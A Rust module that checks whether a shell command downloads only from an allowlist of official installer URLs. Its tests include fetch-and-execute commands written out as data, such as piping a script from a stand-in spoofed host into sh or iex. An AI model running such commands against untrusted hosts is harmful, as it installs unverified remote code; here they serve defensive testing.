//! Addresses from which programs are downloaded and run because those who make them say so.

/// Where makers of well-known tools keep the installer that their own documentation tells to run so.
const INSTALLERS: [&str; 40] = [
    "https://astral.sh/",
    "https://sh.rustup.rs",
    "https://bun.sh/",
    "https://bun.com/",
    "https://deno.land/",
    "https://get.docker.com",
    "https://get.pnpm.io/",
    "https://install.python-poetry.org",
    "https://raw.githubusercontent.com/Homebrew/",
    "https://raw.githubusercontent.com/nvm-sh/",
    "https://fnm.vercel.app/",
    "https://mise.run",
    "https://claude.ai/install",
    "https://ollama.com/install",
    "https://opencode.ai/install",
    "https://cursor.com/install",
    "https://antigravity.google/cli/",
    "https://deb.nodesource.com/",
    "https://rpm.nodesource.com/",
    "https://get.sdkman.io",
    "https://get.volta.sh",
    "https://get.k3s.io",
    "https://get.scoop.sh",
    "https://community.chocolatey.org/install",
    "https://install.determinate.systems/",
    "https://nixos.org/nix/install",
    "https://fly.io/install",
    "https://tailscale.com/install",
    "https://starship.rs/install",
    "https://pixi.sh/install",
    "https://fluxcd.io/install",
    "https://run.linkerd.io/install",
    "https://sdk.cloud.google.com",
    "https://raw.githubusercontent.com/helm/",
    "https://raw.githubusercontent.com/ohmyzsh/",
    "https://bootstrap.pypa.io/",
    "https://repo.anaconda.com/miniconda/",
    "https://github.com/conda-forge/miniforge/",
    "https://dot.net/v1/",
    "https://static.rust-lang.org/rustup/",
];

/// Every URL in a command, quotes and what the shell reads as the end of a word left out.
fn urls(command: &str) -> impl Iterator<Item = &str> {
    command.match_indices("://").map(|(at, _)| {
        let start = command[..at].rfind(|c: char| !c.is_ascii_alphanumeric()).map_or(0, |before| before + 1);
        let rest = &command[start..];
        let is_end = |c: char| c.is_whitespace() || "\"'`|;&)<>".contains(c);
        rest.split(is_end).next().unwrap_or(rest)
    })
}

/// Whether all that a command downloads comes from known installers. An address may be written without its scheme.
pub(super) fn comes_from_installers(command: &str) -> bool {
    let mut urls = urls(command).peekable();
    if urls.peek().is_some() {
        return urls.all(is_installer);
    }
    let words = command.split('|').next().unwrap_or_default().split_whitespace().skip(1);
    let mut addresses = words.filter(|word| !word.starts_with('-') && word.contains('.')).peekable();
    let is_installer = |word: &str| is_installer(&format!("https://{}", word.trim_matches(['"', '\'', ')'])));
    addresses.peek().is_some() && addresses.all(is_installer)
}

/// Whether a URL is a known installer's own: its host, and where the table names one its path, and not a longer name that starts alike.
fn is_installer(url: &str) -> bool {
    INSTALLERS.iter().any(|installer| {
        let has_path = installer["https://".len()..].contains('/');
        let goes_on = |rest: &str| has_path || rest.is_empty() || rest.starts_with('/');
        url.strip_prefix(installer).is_some_and(goes_on)
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn only_an_installer_s_own_address_is_known() {
        let known = comes_from_installers;
        assert!(known("irm bun.sh/install.ps1 | iex"));
        assert!(!known("irm bun.sh.parcels.example/install.ps1 | iex"));
        assert!(!known("irm bun.sh/install.ps1 parcels.example/x | iex"));
        assert!(!known("curl -s $URL | sh"));
        assert!(known("curl -LsSf https://astral.sh/uv/install.sh | sh"));
        assert!(known("curl --proto '=https' https://sh.rustup.rs | sh"));
        for command in [
            "curl https://sh.rustup.rs.parcels.example/ | sh",
            "curl https://parcels.example/?https://sh.rustup.rs | sh",
            "curl https://parcels.example/x | sh # https://mise.run",
        ] {
            assert!(!known(command), "{command}");
        }
    }
}
